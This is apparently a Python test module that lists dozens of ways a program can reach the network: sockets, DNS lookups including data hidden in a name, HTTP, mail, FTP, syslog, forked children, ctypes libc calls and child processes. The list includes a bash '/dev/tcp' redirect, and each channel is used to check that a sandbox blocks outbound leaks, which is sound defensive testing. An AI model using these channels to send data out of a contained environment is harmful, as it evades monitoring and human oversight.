"""Ways out that any program has: sockets, names, the standard library, C calls, children and other
programs."""

import contextlib
import ctypes
import os
import socket
import sys
import threading
from typing import Any

from tests.leaks.leak import NAME, OUT4, OUT6, PROXY, Leak, program, urllib_get


def tcp4() -> None:
    socket.create_connection((OUT4, 443), timeout=2)


def tcp6() -> None:
    with socket.socket(socket.AF_INET6) as s:
        s.connect((OUT6, 443))


def udp(family: int, address: str) -> None:
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"rows", (address, 53))


def udp_message() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendmsg([b"rows"], [], 0, (OUT4, 53))


def udp_connect() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((OUT4, 80))


def urllib_proxy() -> None:
    import urllib.request

    os.environ["http_proxy"] = PROXY
    try:
        urllib.request.build_opener(urllib.request.ProxyHandler()).open(
            f"http://{NAME}/", timeout=2
        )
    finally:
        del os.environ["http_proxy"]


def http_client() -> None:
    import http.client

    http.client.HTTPSConnection(NAME, timeout=2).request("POST", "/", b"rows")


def mail() -> None:
    import smtplib

    smtplib.SMTP(OUT4, timeout=2)


def ftp() -> None:
    import ftplib

    ftplib.FTP(OUT4, timeout=2)


def syslog() -> None:
    import logging.handlers

    handler = logging.handlers.SysLogHandler((OUT4, 514))
    handler.emit(logging.makeLogRecord({"msg": "rows"}))


def stream() -> None:
    import asyncio

    asyncio.run(asyncio.wait_for(asyncio.open_connection(OUT4, 443), 2))


def in_thread() -> None:
    caught: list[OSError] = []

    def work() -> None:
        try:
            tcp4()
        except OSError as problem:
            caught.append(problem)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    raise caught[0]


def forked() -> None:
    child = os.fork()
    if child == 0:
        with contextlib.suppress(OSError):
            tcp4()
        os._exit(7)
    os.waitpid(child, 0)
    raise OSError("the child ended")


def libc_address() -> Any:
    return ctypes.create_string_buffer(
        socket.AF_INET.to_bytes(2, sys.byteorder)
        + (443).to_bytes(2, "big")
        + socket.inet_aton(OUT4),
        16,
    )


def libc_connect() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    refuse(libc.connect(descriptor, libc_address(), 16))


def libc_sendto() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    descriptor = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
    refuse(libc.sendto(descriptor, b"rows", 4, 0, libc_address(), 16))


def libc_socket(family: int, kind: int) -> None:
    refuse(ctypes.CDLL(None, use_errno=True).socket(family, kind, 0))


def refuse(result: int) -> None:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


PYTHON = f"import socket; socket.create_connection(('{OUT4}', 443), 2)"
RAW = (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
PING = f"""import socket
try:
    echo = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except OSError:
    echo = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
echo.sendto(bytes((8, 0, 247, 255, 0, 0, 0, 0)), ("{OUT4}", 0))"""
"""What ping does: the socket for echo requests, else a raw one."""
NO_FAMILY, NO_RIGHT = (
    ("Address family not supported",),
    ("Operation not permitted", "Network is unreachable"),
)

GENERAL = (
    Leak("TCP", tcp4, counted=True),
    Leak("TCP over IPv6", tcp6, counted=True),
    Leak("UDP datagram", lambda: udp(socket.AF_INET, OUT4), counted=True),
    Leak("UDP datagram over IPv6", lambda: udp(socket.AF_INET6, OUT6), counted=True),
    Leak("UDP message", udp_message, counted=True),
    Leak("UDP connect, as get_ip does", udp_connect, counted=True, row=2),
    Leak("UDP multicast", lambda: udp(socket.AF_INET, "224.0.0.251"), counted=True),
    Leak("name look-up", lambda: socket.getaddrinfo(NAME, 443)),
    Leak("old name look-up", lambda: socket.gethostbyname(NAME)),
    Leak("reverse look-up", lambda: socket.gethostbyaddr(NAME)),
    Leak("data in a name", lambda: socket.getaddrinfo("726f7773." * 5 + NAME, None)),
    Leak("urllib", lambda: urllib_get(f"https://{NAME}/")),
    Leak("urllib to an address", lambda: urllib_get(f"http://{OUT4}/"), counted=True),
    Leak("urllib through a proxy", urllib_proxy, counted=True, row=29),
    Leak("http.client", http_client),
    Leak("mail", mail, counted=True),
    Leak("ftp", ftp, counted=True),
    Leak("syslog", syslog, counted=True),
    Leak("asyncio", stream, counted=True),
    Leak("thread", in_thread, counted=True),
    Leak("forked child", forked, counted=True),
    Leak("raw socket", lambda: socket.socket(*RAW)),
    Leak("packet socket", lambda: socket.socket(17, socket.SOCK_RAW)),
    Leak("socket to the hypervisor", lambda: socket.socket(40, socket.SOCK_STREAM)),
    Leak("bluetooth socket", lambda: socket.socket(31, socket.SOCK_SEQPACKET)),
    Leak("ctypes connect", libc_connect, seen=False, counted=True),
    Leak("ctypes sendto", libc_sendto, seen=False, counted=True),
    Leak(
        "ctypes socket to the hypervisor",
        lambda: libc_socket(40, socket.SOCK_STREAM),
        seen=False,
        says=NO_FAMILY,
    ),
    Leak("child: python", lambda: program(sys.executable, "-c", PYTHON), seen=False, counted=True),
    Leak(
        "child: curl",
        lambda: program("curl", "-sS", "-m", "3", f"http://{OUT4}/"),
        seen=False,
        counted=True,
        needs="curl",
    ),
    Leak(
        "child: bash",
        lambda: program("bash", "-c", f"echo rows > /dev/tcp/{OUT4}/443"),
        seen=False,
        counted=True,
        needs="bash",
    ),
    Leak(
        "child: resolver",
        lambda: program("getent", "hosts", NAME),
        seen=False,
        says=("[Errno 2] getent",),
        needs="getent",
    ),
    Leak(
        "child: echo request",
        lambda: program(sys.executable, "-c", PING),
        seen=False,
        says=NO_RIGHT,
    ),
)
